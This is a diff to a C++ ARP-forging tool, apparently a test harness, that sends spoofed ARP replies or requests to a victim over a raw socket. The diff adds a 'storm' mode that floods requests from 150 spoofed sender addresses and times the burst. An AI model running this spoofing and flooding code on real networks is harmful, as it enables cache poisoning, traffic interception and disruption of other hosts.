@@ -3,11 +3,15 @@
 // an entry where none is) that claim an address for a MAC address nobody answers to, straight
 // onto the link through an AF_PACKET socket.
 //
-//   arp_forge IFACE CLAIMED_IP FAKE_MAC VICTIM_IP VICTIM_MAC [COUNT [INTERVAL_MS [request]]]
+//   arp_forge IFACE CLAIMED_IP FAKE_MAC VICTIM_IP VICTIM_MAC [COUNT [INTERVAL_MS [request|storm]]]
+//
+// A storm sends COUNT requests back to back, from 150 addresses from CLAIMED_IP on, each with a
+// link-layer address of its own, and prints one line: "storm FRAMES SECONDS".
 //
 // Prints one line with the wall-clock time in microseconds for every reply sent.
 #include <arpa/inet.h>
 #include <chrono>
+#include <cstdint>
 #include <cstdio>
 #include <cstring>
 #include <linux/if_packet.h>
@@ -37,7 +41,7 @@ bool parseMac(const char* text, unsigned char mac[6]) {
 int main(int argc, char** argv) {
     if (argc < 6) {
         std::fprintf(stderr, "usage: arp_forge IFACE CLAIMED_IP FAKE_MAC VICTIM_IP VICTIM_MAC "
-                             "[COUNT [INTERVAL_MS [request]]]\n");
+                             "[COUNT [INTERVAL_MS [request|storm]]]\n");
         return 2;
     }
     unsigned char fakeMac[6];
@@ -52,7 +56,8 @@ int main(int argc, char** argv) {
     }
     const int count = argc > 6 ? std::stoi(argv[6]) : 1;
     const int intervalMs = argc > 7 ? std::stoi(argv[7]) : 1000;
-    const bool forgeRequest = argc > 8 && std::string(argv[8]) == "request";
+    const bool storm = argc > 8 && std::string(argv[8]) == "storm";
+    const bool forgeRequest = storm || (argc > 8 && std::string(argv[8]) == "request");
 
     const int fd = ::socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
     if (fd < 0) {
@@ -98,6 +103,22 @@ int main(int argc, char** argv) {
     to.sll_ifindex = interfaceIndex;
     to.sll_halen = 6;
     std::memcpy(to.sll_addr, victimMac, 6);
+    if (storm) {
+        const auto start = std::chrono::steady_clock::now();
+        const std::uint32_t first = ntohl(claimed.s_addr);
+        for (int i = 0; i < count; ++i) {
+            const std::uint32_t sender = htonl(first + static_cast<std::uint32_t>(i % 150));
+            std::memcpy(arp + 14, &sender, 4);
+            arp[11] = static_cast<unsigned char>(i >> 16);
+            arp[12] = static_cast<unsigned char>(i >> 8);
+            arp[13] = static_cast<unsigned char>(i);
+            (void)::sendto(fd, frame, sizeof frame, 0, reinterpret_cast<sockaddr*>(&to), sizeof to);
+        }
+        const std::chrono::duration<double> took = std::chrono::steady_clock::now() - start;
+        std::printf("storm %d %.3f\n", count, took.count());
+        ::close(fd);
+        return 0;
+    }
     for (int i = 0; i < count; ++i) {
         if (i > 0) {
             std::this_thread::sleep_for(std::chrono::milliseconds(intervalMs));
